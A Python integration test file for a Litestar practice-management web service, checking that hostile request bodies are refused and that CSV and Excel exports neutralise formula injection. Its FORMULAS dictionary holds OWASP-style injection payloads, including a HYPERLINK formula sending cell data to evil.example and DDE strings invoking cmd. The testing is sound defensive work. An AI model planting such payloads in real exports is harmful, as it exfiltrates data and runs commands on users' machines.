"""Robust input (WEB-5): hostile bodies get a 4xx before any handler, never a 500, and no CSV
the service writes holds a cell that a spreadsheet would run as a formula.

The routes are found by walking the app, so a route added later is covered without being
listed here: every route that takes a body, and every route whose path ends in ``.csv``.
"""

import csv
import io
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, date, datetime

import httpx
import pytest
import time_machine
from litestar import Litestar
from openpyxl import load_workbook

from practice.accounts import Role
from practice.platform.csv_safe import FORMULA_PREFIXES
from practice.platform.settings import Settings
from practice.platform.spreadsheet import MEDIA_TYPE as SPREADSHEET_MEDIA_TYPE
from practice.request_limits import MAX_BODY_BYTES, MAX_JSON_DEPTH
from practice.tables import Client, Employer, Referral, User
from practice.web.limits import BODY_METHODS
from reporting import jobs as reporting_jobs
from reporting.services import billing_terms, invoice_sending, invoices
from reporting.statistics.web import TABLE_NAMES
from reporting.tables import Report
from scheduling.tables import Appointment
from tests.cast import Cast, make_user
from tests.integration.reporting.test_invoices import AMSTERDAM, SYSTEM
from tests.integration.reporting.test_privacy_canary import BILLING_TERMS
from tests.integration.reporting.test_reports import episode_with_ten_held_sessions
from tests.story import ok
from tests.web import api, login

# Who calls a route open to several roles: the therapist owns the seeded case.
ROLE_ORDER = (
    Role.THERAPIST,
    Role.COMPANY_DOCTOR,
    Role.PRACTICE_MANAGER,
    Role.EMPLOYER_CONTACT,
    Role.ADMINISTRATOR,
    Role.CLIENT,
)
DEEP_BODIES = {"1,000 [": b"[" * 1000, '1,000 {"a":': b'{"a":' * 1000}
# Free text that reaches the CSVs, each typed as a formula (the OWASP examples).
FORMULAS = {
    "client": '=HYPERLINK("http://evil.example/?x="&A1,"Anna")',
    "agreement": "+SUM(1;2) hours a week",
    "employer": "-2+3+cmd|' /C calc'!A0",
    "user": "@SUM(1+1)*cmd|' /C calc'!A0",
}
CSV_QUERIES = {
    "/statistics/outcomes.csv": [f"table={name}" for name in TABLE_NAMES],
    "/invoices/lines.csv": ["", "start=2026-01-01&end=2026-12-31"],
}
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@dataclass(frozen=True)
class Door:
    method: str
    path: str
    role: Role | None  # None: a public route


def doors(app: Litestar, methods: frozenset[str]) -> list[Door]:
    """Every (method, path) of the app with one of ``methods``, and a role that may call it."""
    found: list[Door] = []
    for route in app.routes:
        for handler in getattr(route, "route_handlers", []):
            if handler.handler_name == "options_handler":
                continue
            allowed = set(handler.opt.get("roles") or ())
            public = bool(handler.opt.get("public"))
            assert public or allowed, f"{route.path} declares no roles"
            role = None if public else next(r for r in ROLE_ORDER if r in allowed)
            found += [Door(m, route.path, role) for m in sorted(handler.http_methods & methods)]
    return sorted(found, key=lambda door: (door.role or Role.THERAPIST, door.path, door.method))


def fill(path: str, ids: dict[str, int]) -> tuple[str, bool]:
    """The path with the seeded ids; False when one had to be made up (then the relation
    guard may answer 404 before the body is looked at)."""
    known = True

    def one(match: re.Match[str]) -> str:
        nonlocal known
        name = match.group(1)
        if name.endswith(("token", "path", "name")):
            return "x"
        if name not in ids:
            known = False
        return str(ids.get(name, 999999))

    return re.sub(r"\{(\w+)(?::\w+)?\}", one, path), known


async def send(
    client: httpx.AsyncClient,
    method: str,
    path: str,
    body: bytes | AsyncIterator[bytes],
    content_type: str = "application/json",
    accept: str = "application/json",
) -> httpx.Response:
    """A raw body as a logged-in browser script sends it (CSRF header from the cookie)."""
    token = client.cookies.get("__Host-csrftoken") or ""
    headers = {"content-type": content_type, "accept": accept, "x-csrftoken": token}
    return await client.request(method, path, content=body, headers=headers)


async def seed(client: httpx.AsyncClient, cast: Cast, settings: Settings) -> dict[str, int]:
    """One client in treatment, with an agreement and report drafts, and free text everywhere
    that looks like a formula. Returns the ids the routes' paths take."""
    episode_id = await episode_with_ten_held_sessions(client, cast)  # the therapist is in
    agreement = await ok(
        await api(
            client,
            "POST",
            f"/api/episodes/{episode_id}/agreements",
            {"agreed_on": "2026-06-15", "description": FORMULAS["agreement"]},
        ),
        201,
    )
    # The employer sees the employee only with the client's consent to process updates.
    consent = await ok(
        await api(
            client,
            "POST",
            f"/api/episodes/{episode_id}/consents",
            {
                "recipient": "employer",
                "purpose": "process_updates",
                "given_at": "2026-04-20T10:00:00+02:00",
            },
        ),
        201,
    )
    await reporting_jobs.due_reports(date(2026, 6, 15), settings)
    episode = await Referral.select(Referral.client, Referral.employer).first()
    appointment = await Appointment.select(Appointment.id).first()
    report = await Report.select(Report.id).first()
    assert episode and appointment and report
    await Client.update({Client.name: FORMULAS["client"]}).where(Client.id == episode["client"])
    await Employer.update({Employer.name: FORMULAS["employer"]}).where(
        Employer.id == episode["employer"]
    )
    for member in (cast.therapist, cast.practice_manager, cast.employer_contact):
        await User.update({User.display_name: FORMULAS["user"]}).where(User.id == member.id)
    return {
        "episode_id": episode_id,
        "client_id": episode["client"],
        "employer_id": episode["employer"],
        "appointment_id": appointment["id"],
        "report_id": report["id"],
        "agreement_id": agreement["id"],
        "consent_id": consent["id"],
    }


async def as_each_role(
    client: httpx.AsyncClient, cast: Cast, found: list[Door]
) -> AsyncIterator[Door]:
    """The doors in turn, logged in as each door's role (public doors: as anyone)."""
    current: Role | None = None
    for door in found:
        if door.role is not None and door.role != current:
            current = door.role
            await login(client, cast.by_role(current).email)
        yield door


@time_machine.travel("2026-06-15 10:00 +0200", tick=False)
async def test_every_route_that_takes_a_body_refuses_a_thousand_levels_of_nesting_with_400(
    app: Litestar, client: httpx.AsyncClient, cast: Cast, settings: Settings
) -> None:
    ids = await seed(client, cast, settings)
    found = doors(app, BODY_METHODS)
    assert len(found) > 60 and any(d.path == "/api/fhir/referrals" for d in found)
    answers: list[tuple[str, str, str, int]] = []
    async for door in as_each_role(client, cast, found):
        path, known = fill(door.path, ids)
        known = known and door.role is not Role.CLIENT  # the cast's client owns no record
        for name, body in DEEP_BODIES.items():
            response = await send(client, door.method, path, body)
            answers.append((door.method, door.path, name, response.status_code))
            assert response.status_code in ({400} if known else {400, 404}), answers[-1]
            if response.status_code == 400 and door.path != "/api/fhir/referrals":
                assert f"{MAX_JSON_DEPTH} niveaus" in response.json()["detail"], answers[-1]
    assert sum(status == 400 for *_, status in answers) > 100


@time_machine.travel("2026-06-15 10:00 +0200", tick=False)
async def test_every_route_that_takes_a_body_refuses_a_body_over_the_size_limit_with_413(
    app: Litestar, client: httpx.AsyncClient, cast: Cast, settings: Settings
) -> None:
    ids = await seed(client, cast, settings)
    too_large = b" " * (MAX_BODY_BYTES + 1)
    async for door in as_each_role(client, cast, doors(app, BODY_METHODS)):
        path, known = fill(door.path, ids)
        known = known and door.role is not Role.CLIENT  # the cast's client owns no record
        response = await send(client, door.method, path, too_large)
        expected = {413} if known else {413, 404}
        assert response.status_code in expected, (door, response.status_code)


async def chunks(body: bytes, size: int = 64 * 1024) -> AsyncIterator[bytes]:
    for start in range(0, len(body), size):
        yield body[start : start + size]


async def test_a_streamed_body_without_a_length_is_held_to_the_same_limits(
    client: httpx.AsyncClient, cast: Cast
) -> None:
    await login(client, cast.therapist.email)
    too_large = await send(client, "POST", "/api/clients", chunks(b" " * (MAX_BODY_BYTES + 1)))
    assert too_large.status_code == 413
    deep = await send(client, "POST", "/api/clients", chunks(b"[" * 200_000))
    assert deep.status_code == 400, deep.text


@pytest.mark.parametrize(
    "content_type",
    ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data"],
)
async def test_the_content_type_does_not_matter_litestar_decodes_json_whatever_it_says(
    client: httpx.AsyncClient, cast: Cast, content_type: str
) -> None:
    await login(client, cast.therapist.email)
    response = await send(client, "POST", "/api/referrals", b"[" * 1000, content_type)
    assert response.status_code == 400, response.text


async def test_the_refusal_is_in_the_callers_language_as_json_or_as_an_error_page(
    client: httpx.AsyncClient, cast: Cast
) -> None:
    await login(client, cast.therapist.email)
    dutch = await send(client, "POST", "/api/clients", b"[" * 1000)
    assert dutch.json() == {
        "status_code": 400,
        "detail": f"De inhoud is meer dan {MAX_JSON_DEPTH} niveaus diep genest.",
    }
    await login(client, (await make_user(Role.THERAPIST, "en@cast.test", locale="en")).email)
    english = await send(client, "POST", "/api/clients", b"[" * 1000)
    assert english.json()["detail"] == f"The body is nested more than {MAX_JSON_DEPTH} levels deep."
    page = await send(client, "POST", "/referrals", b"[" * 1000, accept="text/html")
    assert page.status_code == 400
    assert page.headers["content-type"].startswith("text/html")
    assert f"The body is nested more than {MAX_JSON_DEPTH} levels deep." in page.text


async def test_a_fhir_client_gets_an_operation_outcome_for_a_deep_or_large_bundle(
    client: httpx.AsyncClient, cast: Cast
) -> None:
    await login(client, cast.company_doctor.email)
    for body, status, mention in (
        (b"[" * 1000, 400, "nested"),
        (b" " * (MAX_BODY_BYTES + 1), 413, "larger"),
    ):
        response = await send(client, "POST", "/api/fhir/referrals", body, "application/fhir+json")
        assert response.status_code == status
        assert response.headers["content-type"].startswith("application/fhir+json")
        outcome = response.json()
        assert outcome["resourceType"] == "OperationOutcome"
        assert mention in outcome["issue"][0]["diagnostics"]


@time_machine.travel("2026-06-15 10:00 +0200", tick=False)
async def test_brackets_inside_text_and_form_posts_still_go_through(
    client: httpx.AsyncClient, cast: Cast, settings: Settings
) -> None:
    ids = await seed(client, cast, settings)
    episode = ids["episode_id"]
    deep_text = "[{" * 100 + '"\\'
    posted = await api(
        client,
        "POST",
        f"/api/episodes/{episode}/agreements",
        {"agreed_on": "2026-06-15", "description": deep_text},
    )
    assert posted.status_code == 201, posted.text
    token = client.cookies.get("__Host-csrftoken") or ""
    form = await client.post(
        f"/episodes/{episode}/agreements",
        data={"agreed_on": "2026-06-15", "description": deep_text, "_csrf_token": token},
    )
    assert form.status_code == 303, form.text
    detail = await ok(await api(client, "GET", f"/api/episodes/{episode}"))
    assert [a["description"] for a in detail["agreements"]].count(deep_text) == 2


def _is_number(cell: str) -> bool:
    return NUMBER.fullmatch(cell) is not None


@time_machine.travel("2026-06-15 10:00 +0200", tick=False)
async def test_no_csv_of_the_service_holds_a_cell_a_spreadsheet_would_run_as_a_formula(
    app: Litestar, client: httpx.AsyncClient, cast: Cast, settings: Settings
) -> None:
    ids = await seed(client, cast, settings)
    # The invoices (issue 22) name the employer as it is called when they are made.
    await billing_terms.record_terms(SYSTEM, ids["employer_id"], BILLING_TERMS)
    for made in await invoices.make_due_invoices(date(2026, 6, 15), AMSTERDAM, vat_exempt=True):
        await invoice_sending.record_past_sending(SYSTEM, made.invoice_id, datetime.now(UTC))
    csv_doors = [d for d in doors(app, frozenset({"GET"})) if d.path.endswith(".csv")]
    assert len(csv_doors) >= 3
    neutralised: dict[str, set[str]] = {}
    async for door in as_each_role(client, cast, csv_doors):
        path, known = fill(door.path, ids)
        assert known, f"seed an id for {door.path}"
        for query in CSV_QUERIES.get(door.path, [""]):
            response = await client.get(f"{path}?{query}" if query else path)
            assert response.status_code == 200, (door, query, response.text)
            assert response.headers["content-type"].startswith("text/csv")
            cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
            # A figure is written as a number, and -3 must stay -3 in the spreadsheet.
            dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
            assert dangerous == [], (door.path, query, dangerous)
            neutralised.setdefault(door.path, set()).update(
                name
                for name, formula in FORMULAS.items()
                for cell in cells
                if cell.startswith("'" + formula)
            )
    # Each CSV carried planted text (the test would prove nothing otherwise).
    assert neutralised == {
        "/api/employer/employees.csv": {"client", "agreement"},
        "/api/clients/{client_id:int}/access-log.csv": {"user"},
        "/statistics/outcomes.csv": {"user"},
        "/invoices/lines.csv": {"employer"},
    }


@time_machine.travel("2026-06-15 10:00 +0200", tick=False)
async def test_no_workbook_of_the_service_holds_a_formula_and_planted_text_stays_text(
    app: Litestar, client: httpx.AsyncClient, cast: Cast, settings: Settings
) -> None:
    ids = await seed(client, cast, settings)
    xlsx_doors = [d for d in doors(app, frozenset({"GET"})) if d.path.endswith(".xlsx")]
    assert len(xlsx_doors) >= 2
    planted: dict[str, set[str]] = {}
    async for door in as_each_role(client, cast, xlsx_doors):
        path, known = fill(door.path, ids)
        assert known, f"seed an id for {door.path}"
        response = await client.get(path)
        assert response.status_code == 200, (door, response.text)
        assert response.headers["content-type"].startswith(SPREADSHEET_MEDIA_TYPE)
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], door.path
        planted[door.path] = {
            name
            for name, formula in FORMULAS.items()
            for cell in cells
            if isinstance(cell.value, str) and cell.value.startswith(formula)
        }
    # Each workbook carried planted text, as its text (the test would prove nothing otherwise).
    assert planted == {
        "/employer/employees.xlsx": {"client", "agreement"},
        "/statistics/outcomes.xlsx": {"user"},
    }
